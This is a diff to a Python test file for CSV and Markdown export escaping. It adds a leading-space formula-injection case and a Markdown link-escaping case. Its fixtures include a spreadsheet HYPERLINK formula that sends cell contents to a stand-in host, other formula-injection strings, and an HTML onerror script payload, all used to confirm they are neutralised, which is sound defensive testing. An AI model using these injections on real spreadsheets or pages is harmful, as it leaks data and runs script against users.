@@ -332,7 +332,13 @@ def test_the_runtimes_start_up_lines_are_dropped_and_its_warnings_kept(capfd):
 
 # ---------------------------------------------------------------- exports that stay inert
 
-FORMULAS = ['=HYPERLINK("http://e.example/?d="&A1,"x")', "+1+2", "-3+4", "@SUM(A1:A9)"]
+FORMULAS = [
+    '=HYPERLINK("http://e.example/?d="&A1,"x")',
+    "+1+2",
+    "-3+4",
+    "@SUM(A1:A9)",
+    " =1+2",  # a spreadsheet skips the blank and runs the formula
+]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
@@ -350,7 +356,9 @@ def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path, form
     assert done.returncode == 0, done.stderr
     rows = list(csv.DictReader(done.stdout.splitlines()))
     cells = [v for row in rows for v in row.values() if v]
-    assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _number(c)]
+    assert not [
+        c for c in cells if c.lstrip().startswith(("=", "+", "-", "@")) and not _number(c)
+    ]
     hostile_row = rows[1]
     assert hostile_row["source"] == "'" + name  # shown as typed, never run
     assert hostile_row["device"] == f"CPU: {formula} × 2"  # inside a cell a formula is text
@@ -374,6 +382,7 @@ def _number(cell: str) -> bool:
         ("[a][ref]\n\n[ref]: http://e.example", r"\[a\]\[ref\]  \[ref\]: http\://e.example"),
         ("see www.e.example or HTTPS://e.example", r"see www\.e.example or HTTPS\://e.example"),
         ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
+        ("_www.e.example and x_https://e.example", r"_www\.e.example and x_https\://e.example"),
     ],
 )
 def test_markdown_cells_hold_no_link_image_or_html(label, inert):
